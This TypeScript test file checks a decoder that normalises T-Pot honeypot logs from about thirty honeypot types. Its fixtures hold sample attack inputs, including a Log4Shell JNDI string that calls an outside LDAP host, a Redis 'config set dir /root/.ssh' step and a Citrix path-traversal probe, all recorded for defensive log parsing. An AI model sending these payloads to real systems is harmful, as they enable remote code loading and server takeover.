import { expect, test } from "vitest";
import { PLAIN, readContent } from "../../../../../test/support/ingest/decode.ts";
import type { DecodeOptions } from "../../format.ts";
import { decodeHoneypot } from "./honeypot.ts";
import { HONEYPOTS } from "./honeypots.ts";
import { TPOT_CHANGES } from "./tpot-changes.ts";

type Members = Record<string, unknown>;

const IP = "45.83.64.1";
const TIME = "2026-11-20T13:00:00.123";
const EXTERNAL = "198.51.100.7";

const REQUEST_HEX = Buffer.from("GET /x HTTP/1.1\r\nHost: h\r\n\r\n").toString("hex");

/** What Logstash adds to every record. */
const added = (type: string, log: string): Members => ({
  "@timestamp": `${TIME}Z`,
  "@version": "1",
  host: "3f2a",
  type,
  path: `/data/${type.toLowerCase()}/log/${log}`,
  "t-pot_hostname": "hive-1",
  "t-pot_ip_ext": EXTERNAL,
  "t-pot_ip_int": "10.0.0.5",
});

/** T-Pot's type; what a record has in both forms, in its honeypot's own and after Logstash; and what it says. */
const BOTH: readonly (readonly [type: string, both: Members, own: Members, renamed: Members, says: Members])[] = [
  [
    "Adbhoney",
    { timestamp: `${TIME}Z`, eventid: "adbhoney.command.input", input: "id", src_ip: IP, src_port: 4711, session: "a" },
    { dst_ip: "172.20.0.2", dst_port: 5555 },
    { dest_ip: "172.20.0.2", dest_port: 5555 },
    { application: "adb", commands: ["id"], labels: ["adbhoney:command.input"], transport: "tcp" },
  ],
  [
    "Beelzebub",
    {},
    {
      event: {
        DateTime: `${TIME}Z`,
        RemoteAddr: `${IP}:4711`,
        Protocol: "SSH",
        User: "root",
        Password: "p",
        Client: "SSH-2.0-Go",
        ID: "b",
        SourcePort: "4711",
      },
      msg: "New Event",
      time: `${TIME}Z`,
    },
    {
      timestamp: `${TIME}Z`,
      src_ip: IP,
      src_port: 4711,
      protocol: "SSH",
      username: "root",
      password: "p",
      client: "SSH-2.0-Go",
      session: "b",
      service: "x",
      status: "Stateless",
    },
    { application: "ssh", transport: "tcp", ssh: { banner: "SSH-2.0-Go" }, login_attempts: 1 },
  ],
  [
    "Ciscoasa",
    { timestamp: TIME, src_ip: IP, payload_printable: '"GET /+CSCOE+/logon.html HTTP/1.1" 200 -' },
    {},
    { dest_ip: EXTERNAL },
    { application: "http", http: { method: "GET", path: "/+CSCOE+/logon.html" }, transport: "tcp" },
  ],
  [
    "CitrixHoneypot",
    {},
    { asctime: "2026-11-20 13:00:00,123", levelname: "INFO", message: `(${IP}:4711): GET Header: /vpn/../vpns/` },
    {
      src_ip: IP,
      src_port: 4711,
      dest_port: 443,
      level: "INFO",
      "http.http_method": "GET",
      "fileinfo.state": "Header",
      "fileinfo.filename": "/vpn/../vpns/",
    },
    { destination_port: 443, http: { method: "GET", path: "/vpn/../vpns/" } },
  ],
  [
    "ConPot",
    { timestamp: TIME, sensorid: "s", id: "c", src_ip: IP, src_port: 4711, data_type: "snmp", public_ip: null },
    { dst_ip: "172.20.0.2", dst_port: 161 },
    { dest_ip: "172.20.0.2", dest_port: 161 },
    { application: "snmp", transport: "udp", session_id: "c" },
  ],
  [
    "Cowrie",
    {
      timestamp: `${TIME}Z`,
      eventid: "cowrie.login.failed",
      src_ip: IP,
      src_port: 4711,
      session: "s",
      protocol: "ssh",
      username: "a",
      password: "b",
    },
    { dst_ip: "172.20.0.2", dst_port: 22 },
    { dest_ip: "172.20.0.2", dest_port: 22 },
    { application: "ssh", destination_port: 22, credentials: [{ username: "a", password: "b" }] },
  ],
  [
    "Ddospot",
    { src_ip: IP, src_port: 4711, req_size: 8, resp_size: 440, mode: "MON_GETLIST" },
    { time: "2026-11-20 13:00:00.123" },
    { dest_port: 123, dest_ip: EXTERNAL },
    { application: "ntp", transport: "udp", destination_port: 123 },
  ],
  [
    "Dicompot",
    { msg: "Connection from", level: "warning" },
    { time: "2026-11-20 13:00:00.123", IP, Port: "4711", ID: "d" },
    { src_ip: IP, src_port: 4711, id: "d" },
    { application: "dicom", session_id: "d", source_port: 4711 },
  ],
  [
    "Dionaea",
    { timestamp: TIME, src_port: 4711, connection: { protocol: "mssqld", transport: "tcp", type: "accept" } },
    {
      src_ip: `::ffff:${IP}`,
      dst_ip: "172.20.0.2",
      dst_port: 1433,
      credentials: { username: ["sa", "sa"], password: ["", "p"] },
    },
    { src_ip: IP, dest_ip: "172.20.0.2", dest_port: 1433, username: "sa,sa", password: ",p" },
    { application: "mssql", login_attempts: 2, credentials: [{ username: "sa" }, { username: "sa", password: "p" }] },
  ],
  [
    "ElasticPot",
    { timestamp: `${TIME}Z`, eventid: "elasticpot.recon", src_ip: IP, src_port: 4711 },
    { dst_ip: "172.20.0.2", dst_port: 9200, request: "GET", url: "/_cat/indices", user_agent: "ua", message: "Scan" },
    {
      dest_ip: "172.20.0.2",
      dest_port: 9200,
      request_method: "GET",
      "http.url": "/_cat/indices",
      http_user_agent: "ua",
      event_type: "Scan",
    },
    { application: "elasticsearch", http: { method: "GET", path: "/_cat/indices", user_agent: "ua" } },
  ],
  [
    "Endlessh",
    { reason: "ACCEPT", src_ip: IP },
    { timestamp: `${TIME}Z`, src_port: "4711" },
    { src_port: 4711, dest_port: 22, dest_ip: EXTERNAL },
    { application: "ssh", transport: "tcp", destination_port: 22 },
  ],
  [
    "Fatt",
    { timestamp: TIME, protocol: "tls" },
    {
      sourceIp: IP,
      sourcePort: "4711",
      destinationIp: EXTERNAL,
      destinationPort: "443",
      tls: { ja3: "0123456789abcdef0123456789abcdef" },
    },
    {
      src_ip: IP,
      src_port: 4711,
      dest_ip: EXTERNAL,
      dest_port: 443,
      fatt_tls: { ja3: "0123456789abcdef0123456789abcdef" },
    },
    { application: "tls", transport: "tcp", tls: { ja3: "0123456789abcdef0123456789abcdef" } },
  ],
  [
    "Galah",
    {
      timestamp: `${TIME}Z`,
      src_ip: IP,
      session: "g",
      "request.method": "GET",
      "request.requestURI": "/.env?x=1",
      "request.userAgent": "ua",
      "request.headers.Accept": "*/*",
      "request.headers.sorted": "Accept",
    },
    { src_port: "4711", dest_port: "8080" },
    { src_port: 4711, dest_port: 8080 },
    { http: { method: "GET", path: "/.env", query: "x=1", user_agent: "ua", headers: ["accept"] } },
  ],
  [
    "Glutton",
    { time: `${TIME}Z`, handler: "http", sensorID: "s", src_ip: IP, path: "/a", method: "GET" },
    { src_port: "4711", dest_port: "81" },
    { src_port: 4711, dest_port: 81 },
    { application: "http", transport: "tcp", http: { method: "GET", path: "/a" } },
  ],
  [
    "Go-pot",
    { timestamp: `${TIME}Z`, id: "i", src_ip: IP, method: "GET", path: "/b", qs: "c=1", phase: "end", host: "h" },
    { dest_port: "80" },
    { dest_port: 80 },
    { session_id: "i", http: { method: "GET", host: "h", path: "/b", query: "c=1" } },
  ],
  [
    "H0neytr4p",
    {
      timestamp: `${TIME}Z`,
      src_ip: IP,
      request_method: "GET",
      protocol: "HTTPS",
      request_uri: "/remote/login",
      trapped: "false",
      "user-agent": "ua",
      "header_x-a": "1",
    },
    { dest_port: "443" },
    { dest_port: 443 },
    { application: "http", transport: "tcp", http: { path: "/remote/login", header_lines: ["x-a: 1"] } },
  ],
  [
    "Hellpot",
    {},
    { time: `${TIME}Z`, REMOTE_ADDR: IP, URL: "/wp-login.php", USERAGENT: "ua", message: "NEW" },
    { src_ip: IP, url: "/wp-login.php", http_user_agent: "ua", reason: "NEW", dest_port: 80, dest_ip: EXTERNAL },
    { destination_port: 80, http: { method: "GET", path: "/wp-login.php", user_agent: "ua" } },
  ],
  [
    "Heralding",
    { auth_id: "u", session_id: "h", username: "a", password: "b" },
    { timestamp: "2026-11-20 13:00:00.123", source_ip: IP, source_port: 4711, destination_port: 110, protocol: "pop3" },
    { src_ip: IP, src_port: 4711, dest_port: 110, proto: "pop3" },
    { application: "pop3", login_attempts: 1, credentials: [{ username: "a", password: "b" }] },
  ],
  [
    "Honeyaml",
    {
      timestamp: `${TIME}Z`,
      target: "honeyaml::access-log",
      src_ip: IP,
      path: "/auth",
      query_string: "a=1",
      method: "POST",
      body: "x",
      host: "h",
    },
    { dest_port: "8080" },
    { dest_port: 8080 },
    { http: { method: "POST", path: "/auth", query: "a=1", body: "x" } },
  ],
  [
    "Honeypots",
    { timestamp: TIME, protocol: "sip", action: "connection", dest_ip: "0.0.0.0", src_ip: IP },
    { src_port: "4711", dest_port: "5060" },
    { src_port: 4711, dest_port: 5060 },
    { application: "sip", transport: "udp" },
  ],
  [
    "Honeytrap",
    { start_time: `${TIME}Z` },
    {
      attack_connection: {
        protocol: "tcp",
        remote_ip: IP,
        remote_port: 4711,
        local_ip: "10.0.0.5",
        local_port: 8088,
        payload: { data_hex: REQUEST_HEX, length: 29 },
      },
    },
    {
      src_ip: IP,
      src_port: 4711,
      dest_ip: "10.0.0.5",
      dest_port: 8088,
      attack_connection: { protocol: "tcp", payload: { data_hex: REQUEST_HEX, length: 29 } },
    },
    { application: "http", destination_port: 8088, labels: ["honeytrap:tcp"], http: { path: "/x", host: "h" } },
  ],
  [
    "Ipphoney",
    { eventid: "ipphoney.connect", src_ip: IP, src_port: 4711 },
    { timestamp: `${TIME}Z`, dst_ip: "172.20.0.2", dst_port: 631, url: "/ipp", request: "POST" },
    { timestamp: `${TIME}+00:00Z`, dest_ip: "172.20.0.2", dest_port: 631, "http.url": "/ipp", request_method: "POST" },
    { application: "ipp", http: { method: "POST", path: "/ipp" } },
  ],
  [
    "Log4pot",
    { timestamp: TIME, correlation_id: "l", headers: { "User-Agent": "ua" } },
    {
      type: "request",
      server_port: 8080,
      client: IP,
      port: 4711,
      request: `GET /?q=\${jndi:ldap://198.51.100.9/a} HTTP/1.1`,
    },
    {
      reason: "request",
      dest_port: 8080,
      src_ip: IP,
      src_port: 4711,
      request_uri: `GET /?q=\${jndi:ldap://198.51.100.9/a} HTTP/1.1`,
    },
    { destination_port: 8080, http: { method: "GET", path: "/", query: `q=\${jndi:ldap://198.51.100.9/a}` } },
  ],
  [
    "Mailoney",
    { timestamp: `${TIME}Z`, src_ip: IP, src_port: 4711, data: "EHLO x\r\nRCPT TO:<a@example.org>\r\n" },
    {},
    { dest_port: 25 },
    { application: "smtp", destination_port: 25, commands: ["EHLO x", "RCPT TO:<a@example.org>"] },
  ],
  [
    "Medpot",
    { src_ip: IP, data: "TVNI" },
    { timestamp: `${TIME}Z`, src_port: "4711" },
    { timestamp: "20 Nov 26 13:00 UTC", src_port: 4711, dest_port: 2575, dest_ip: EXTERNAL },
    { application: "hl7", destination_port: 2575, transport: "tcp" },
  ],
  [
    "Miniprint",
    {
      timestamp: `${TIME}Z`,
      info: "x",
      action: "cmd_unknown",
      event: "e",
      command: "INFO X",
      src_ip: IP,
      dest_port: 9100,
    },
    {},
    {},
    { application: "printer", commands: ["INFO X"] },
  ],
  [
    "NGINX",
    { msec: "1795179600.123", src_ip: IP, remote_user: "", request_uri: "/a?b=1", request_method: "GET" },
    { src_port: "4711", status: "401" },
    { src_port: 4711, status: 401 },
    { application: "http", http: { method: "GET", path: "/a", query: "b=1" } },
  ],
  [
    "P0f",
    { mod: "syn", subject: "cli", os: "Linux 3.x" },
    { timestamp: "2026/11/20 13:00:00.123", client_ip: IP, client_port: 4711, server_ip: EXTERNAL, server_port: 7774 },
    { src_ip: IP, src_port: 4711, dest_ip: EXTERNAL, dest_port: 7774 },
    { destination_port: 7774, labels: ["p0f:Linux 3.x"], transport: "tcp" },
  ],
  [
    "RDPHoneypot",
    { eventid: "rdphoneypot.connect", src_ip: IP, src_port: 4711, username: "administr" },
    { timestamp: `${TIME}Z`, dst_ip: "172.20.0.2", dst_port: 3389 },
    { timestamp: `${TIME}+00:00Z`, dest_ip: "172.20.0.2", dest_port: 3389 },
    { application: "rdp", credentials: [{ username: "administr" }] },
  ],
  [
    "Redishoneypot",
    { action: "config set dir /root/.ssh", level: "info" },
    { time: "2026-11-20 13:00:00.123", addr: `${IP}:4711` },
    { src_ip: IP, src_port: 4711, dest_port: 6379, dest_ip: EXTERNAL },
    { application: "redis", destination_port: 6379, commands: ["config set dir /root/.ssh"] },
  ],
  [
    "Sentrypeer",
    { app_name: "sentrypeer", event_uuid: "u", transport_type: "UDP", sip_method: "INVITE", sip_user_agent: "ua" },
    { event_timestamp: "2026-11-20 13:00:00.123000000", source_ip: `${IP}:4711`, destination_ip: "10.0.0.5" },
    { src_ip: IP, src_port: 4711, dest_ip: "10.0.0.5", dest_port: 5060 },
    { application: "sip", transport: "udp", source_port: 4711, http: { method: "INVITE", user_agent: "ua" } },
  ],
  [
    "Suricata",
    {
      timestamp: `${TIME}+0000`,
      event_type: "ssh",
      flow_id: 1,
      src_ip: IP,
      src_port: 4711,
      dest_ip: EXTERNAL,
      dest_port: 22,
      proto: "TCP",
    },
    {},
    {},
    { application: "ssh", transport: "tcp" },
  ],
  [
    "Tanner",
    { timestamp: TIME, method: "GET", path: "/data/x?y=1", headers: { "user-agent": "ua" } },
    { peer: { ip: IP, port: 4711 } },
    { peer: {}, src_ip: IP, src_port: 4711, dest_port: 80 },
    { destination_port: 80, http: { path: "/data/x", query: "y=1", user_agent: "ua" } },
  ],
  [
    "Wordpot",
    {
      timestamp: TIME,
      src_ip: IP,
      src_port: 4711,
      browser_family: "x",
      plugin: "badlogin",
      user_agent: "ua",
      url: "http://h/wp-login.php?a=1",
      username: "a",
      password: "b",
    },
    { dest_port: "80" },
    { dest_port: 80 },
    { login_attempts: 1, http: { host: "h", path: "/wp-login.php", query: "a=1", user_agent: "ua" } },
  ],
];

/** What a record says, without what only says by which way it came. */
function said(value: unknown): Members {
  const { observation_id, sensor_id, labels, observed_at, ...rest } = { ...(value as object) } as Members;
  const own = Array.isArray(labels) ? labels.filter((label) => !String(label).startsWith("tpot:")) : [];
  return { ...rest, at: Date.parse(String(observed_at)), ...(own.length > 0 && { labels: own }) };
}

async function decodeOwn(type: string, own: Members, options: Partial<DecodeOptions> = {}): Promise<unknown> {
  const [record] = await readContent(JSON.stringify(own), "auto", options);
  if (record?.value !== undefined) return record.value;
  // Nothing of its records tells it: only T-Pot names it.
  const honeypot = HONEYPOTS.get(type.toLowerCase());
  const decoded = honeypot && decodeHoneypot(honeypot, own, { ...PLAIN, ...options });
  return decoded !== undefined && "observation" in decoded ? decoded.observation : record;
}

test.each(BOTH)("%s says the same by its own log and by T-Pot", async (type, both, own, renamed, says) => {
  const [record] = await readContent(JSON.stringify({ ...added(type, "x.json"), ...both, ...renamed }), "tpot");
  expect(record?.value).toMatchObject({ sensor_id: "hive-1", source_ip: IP });
  const byTpot = said(record?.value);
  expect(byTpot).toMatchObject(says);
  expect(byTpot).toEqual(said(await decodeOwn(type, { ...both, ...own })));
});

test("each type that the table of T-Pot's changes names has both forms above", () => {
  expect(BOTH.map(([type]) => type.toLowerCase()).toSorted()).toEqual([...TPOT_CHANGES.keys()].toSorted());
});

test.each(BOTH)(
  "%s counts once by its own log, for the sensor called like T-Pot's host, and by T-Pot",
  async (type, both, own, renamed) => {
    const [record] = await readContent(JSON.stringify({ ...added(type, "x.json"), ...both, ...renamed }), "tpot");
    const byFile = await decodeOwn(type, { ...both, ...own }, { sensorId: "hive-1" });
    // Logstash cuts Sentrypeer's times, but the session is the same.
    const id = type === "Sentrypeer" ? "session_id" : "observation_id";
    expect(record?.value).toMatchObject({ [id]: Object(byFile)[id], sensor_id: "hive-1" });
  },
);
